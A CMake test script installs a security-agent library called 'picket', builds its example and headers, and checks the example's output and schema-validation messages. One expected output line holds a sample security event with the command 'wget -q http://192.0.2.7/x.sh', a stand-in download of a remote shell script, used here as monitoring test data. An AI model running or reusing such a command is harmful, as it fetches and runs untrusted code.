# Installs the cores into a prefix of its own, builds the example and a program that includes every installed
# header against it, as a stranger would, runs the example and reads what it says.
# Variables: BUILD_DIR, SOURCE_DIR, WORK_DIR, GENERATOR, COMPILER, BUILD_TYPE, LINK_FLAGS
function(run)
  execute_process(COMMAND ${ARGV} RESULT_VARIABLE result OUTPUT_VARIABLE output ERROR_VARIABLE output)
  if(NOT result EQUAL 0)
    string(JOIN " " command ${ARGV})
    message(FATAL_ERROR "${command}\nended with ${result}:\n${output}")
  endif()
  set(output "${output}" PARENT_SCOPE)
endfunction()
function(expect text)
  string(FIND "${output}" "${text}" at)
  if(at EQUAL -1)
    message(FATAL_ERROR "expected\n  ${text}\nin\n${output}")
  endif()
endfunction()

file(REMOVE_RECURSE ${WORK_DIR})
run(${CMAKE_COMMAND} --install ${BUILD_DIR} --prefix ${WORK_DIR}/prefix)
set(configure -G ${GENERATOR} -DCMAKE_CXX_COMPILER=${COMPILER} -DCMAKE_BUILD_TYPE=${BUILD_TYPE}
    -DCMAKE_PREFIX_PATH=${WORK_DIR}/prefix)

# The example.
run(${CMAKE_COMMAND} -S ${SOURCE_DIR}/examples/send_security_message -B ${WORK_DIR}/example ${configure})
run(${CMAKE_COMMAND} --build ${WORK_DIR}/example)
run(${WORK_DIR}/example/send_security_message dev-0001)
set(bag "%24.ct=application%2Fjson&%24.ce=utf-8&%24.ifid=urn%3Aazureiot%3ASecurity%3ASecurityAgent%3A1")
expect("topic:   devices/dev-0001/modules/azureiotsecurity/messages/events/${bag}\npayload: {\"AgentVersion\":\"1.0.0\",")
expect("\"Executable\":\"/usr/bin/wget\",\"CommandLine\":\"wget -q http://192.0.2.7/x.sh\"")
expect("process: sent")
expect("${bag}&MessagePriority=High\n")
expect("\"ExtraDetails\":{\"Slot\":\"b\",\"Signer\":\"unknown\"}")
expect("own check: sent")
expect("wrong: Events[0].Payload[0].Direction: found the text 'Inbound', expected one of In, Out\n")
expect("wrong: Events[0].Payload[0].RemoteAdress: found an unknown field")
expect("did you mean 'RemoteAddress'?")
expect("wrong: Events[0].Payload[0].RemotePort: found an integer, expected a port as a text")
expect("wrong: Events[0].Payload[0].RemoteAddress: missing, expected an IPv4 or IPv6 address as a text")
expect("wrong: not sent")

# Every installed header, and all three libraries linked.
file(GLOB_RECURSE headers RELATIVE ${WORK_DIR}/prefix/include/picket ${WORK_DIR}/prefix/include/picket/*.h)
list(LENGTH headers count)
if(count LESS 40)
  message(FATAL_ERROR "only ${count} headers were installed")
endif()
list(SORT headers)
set(source "")
foreach(header ${headers})
  string(APPEND source "#include \"${header}\"\n")
endforeach()
string(APPEND source "int main() {
  picket::TextTable texts;
  texts.freeze();
  const picket::PipelineCore pipeline(picket::PipelineContent::Builder().build(), {}, texts);
  return picket::compile(picket::Policy(), texts)->policy.name.empty() && pipeline.counts().messages == 0 ? 0 : 1;
}\n")
file(WRITE ${WORK_DIR}/headers/main.cc "${source}")
file(WRITE ${WORK_DIR}/headers/CMakeLists.txt "cmake_minimum_required(VERSION 3.25)
project(headers LANGUAGES CXX)
find_package(picket REQUIRED COMPONENTS message agent_core pipeline_core)
add_executable(headers main.cc)
target_link_libraries(headers PRIVATE picket::agent_core picket::pipeline_core)
")
run(${CMAKE_COMMAND} -S ${WORK_DIR}/headers -B ${WORK_DIR}/headers/build ${configure})
run(${CMAKE_COMMAND} --build ${WORK_DIR}/headers/build)
run(${WORK_DIR}/headers/build/headers)

# Each library is a component of its own.
foreach(component base message agent_core)
  file(WRITE ${WORK_DIR}/${component}/main.cc "#include \"agent_core/base/utf8.h\"
int main() { return picket::is_utf8(\"x\") ? 0 : 1; }
")
  file(WRITE ${WORK_DIR}/${component}/CMakeLists.txt "cmake_minimum_required(VERSION 3.25)
project(component LANGUAGES CXX)
find_package(picket REQUIRED COMPONENTS ${component})
add_executable(component main.cc)
target_link_libraries(component PRIVATE picket::${component})
")
  run(${CMAKE_COMMAND} -S ${WORK_DIR}/${component} -B ${WORK_DIR}/${component}/build ${configure})
  run(${CMAKE_COMMAND} --build ${WORK_DIR}/${component}/build)
  run(${WORK_DIR}/${component}/build/component)
endforeach()

# A component that does not exist is refused.
file(WRITE ${WORK_DIR}/refused/CMakeLists.txt "cmake_minimum_required(VERSION 3.25)
project(refused LANGUAGES CXX)
find_package(picket REQUIRED COMPONENTS simulator)
")
execute_process(COMMAND ${CMAKE_COMMAND} -S ${WORK_DIR}/refused -B ${WORK_DIR}/refused/build ${configure}
                RESULT_VARIABLE result OUTPUT_QUIET ERROR_QUIET)
if(result EQUAL 0)
  message(FATAL_ERROR "a component that does not exist was found")
endif()
file(REMOVE_RECURSE ${WORK_DIR})
